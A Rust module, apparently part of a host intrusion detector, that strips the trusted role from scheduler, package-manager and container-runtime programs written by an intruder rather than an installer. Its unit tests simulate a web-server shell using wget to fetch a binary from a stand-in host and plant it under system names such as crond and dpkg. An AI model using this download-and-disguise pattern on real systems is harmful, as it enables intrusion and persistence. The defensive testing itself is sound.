//! Finds programs that have a role which excuses them, and were written by no installer. A scheduler, a service manager or a
//! package manager is known by its name in a system directory. An intruder with root can write a program there.

use crate::{
    detect::WrittenFiles,
    process::{Process, ProcessTable, Role},
};

/// Whether a started program has a role that excuses it and should not have it: the program was written by no installer, and
/// no service manager started it. What a person wrote keeps its role, unless it is a scheduler or a service manager, because
/// nobody starts these by hand.
pub(super) fn is_undeserved(process: &Process, table: &ProcessTable, written: &WrittenFiles) -> bool {
    if !process.role.excuses() {
        return false;
    }
    let is_supervised = || table.parent_of(process).is_some_and(|parent| parent.role == Role::Init);
    let is_by_hand = |by_person| by_person && !matches!(process.role, Role::Init | Role::Scheduler);
    let view = &process.view;
    let container = process.container_id().map(AsRef::as_ref);
    let program = written.find(&view.executable.path, view.executable.file, container);
    let script = || written.find(process.script.as_deref()?, None, container);
    let file = program.or_else(script);
    file.is_some_and(|file| !is_by_hand(file.by_person) && !is_supervised())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        engine::{Engine, EngineSettings},
        model::{ProcessKey, Wanted},
        testing::Host,
    };

    fn host() -> (Host, ProcessKey) {
        let mut host = Host::new();
        let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        (host, init)
    }

    /// A shell of a web server.
    fn shell_of_intruder(host: &mut Host, init: ProcessKey) -> ProcessKey {
        let server = host.spawn(init, "/usr/sbin/php-fpm8.2", &["php-fpm"]);
        host.spawn(server, "/usr/bin/bash", &["bash", "-c", "id"])
    }

    /// A shell of a person.
    fn shell_of_person(host: &mut Host, init: ProcessKey) -> ProcessKey {
        let login = host.spawn(init, "/usr/sbin/sshd", &["sshd: me@pts/0"]);
        host.spawn(login, "/usr/bin/bash", &["-bash"])
    }

    /// Writes a program and makes it executable.
    fn write(host: &mut Host, shell: ProcessKey, path: &str) {
        let wget = host.spawn(shell, "/usr/bin/wget", &["wget", "-O", path, "http://cdn.example/x"]);
        host.connect(wget, "198.51.100.66:80");
        host.create(wget, path, 0o644);
        let chmod = host.spawn(shell, "/usr/bin/chmod", &["chmod", "+x", path]);
        host.chmod(chmod, path, 0o755);
    }

    fn role(host: &Host, key: ProcessKey) -> Option<Role> {
        let mut engine = Engine::new(EngineSettings::default());
        for event in host.events() {
            engine.ingest(event, Wanted::No, &mut Vec::new());
        }
        engine.table.get(key).map(|process| process.role)
    }

    #[test]
    fn what_an_intruder_wrote_has_no_role_that_excuses() {
        for path in [
            "/usr/local/sbin/crond",
            "/usr/bin/dpkg",
            "/usr/bin/containerd-shim",
            "/sbin/runsvdir",
            "/usr/local/bin/grep",
        ] {
            let (mut host, init) = host();
            let shell = shell_of_intruder(&mut host, init);
            write(&mut host, shell, path);
            let program = host.spawn(shell, path, &[path]);
            assert_eq!(role(&host, program), Some(Role::Other), "{path}");
        }
    }

    #[test]
    fn a_script_counts_like_a_program() {
        let (mut host, init) = host();
        let shell = shell_of_intruder(&mut host, init);
        write(&mut host, shell, "/usr/bin/dnf");
        let program = host.spawn_script(shell, "/usr/bin/python3", "/usr/bin/dnf");
        assert_eq!(role(&host, program), Some(Role::Interpreter));
    }

    #[test]
    fn installed_programs_keep_their_roles() {
        let (mut host, init) = host();
        let person = shell_of_person(&mut host, init);
        write(&mut host, person, "/usr/bin/dockerd");
        let typed = host.spawn(person, "/usr/bin/dockerd", &["dockerd"]);
        assert_eq!(role(&host, typed), Some(Role::ContainerRuntime), "a person installed it by hand");
        let shell = shell_of_intruder(&mut host, init);
        write(&mut host, shell, "/usr/bin/kubelet");
        let service = host.spawn(init, "/usr/bin/kubelet", &["kubelet"]);
        assert_eq!(role(&host, service), Some(Role::ContainerRuntime), "a service manager starts it");
        let apt = host.spawn(shell, "/usr/bin/apt-get", &["apt-get", "install", "cron"]);
        assert_eq!(role(&host, apt), Some(Role::PackageManager), "nobody wrote it");
        write(&mut host, apt, "/usr/sbin/cron");
        let cron = host.spawn(shell, "/usr/sbin/cron", &["cron"]);
        assert_eq!(role(&host, cron), Some(Role::Scheduler), "an installer wrote it");
    }

    #[test]
    fn nobody_starts_a_scheduler_by_hand() {
        let (mut host, init) = host();
        let person = shell_of_person(&mut host, init);
        write(&mut host, person, "/usr/local/sbin/crond");
        let typed = host.spawn(person, "/usr/local/sbin/crond", &["crond"]);
        assert_eq!(role(&host, typed), Some(Role::Other));
    }
}
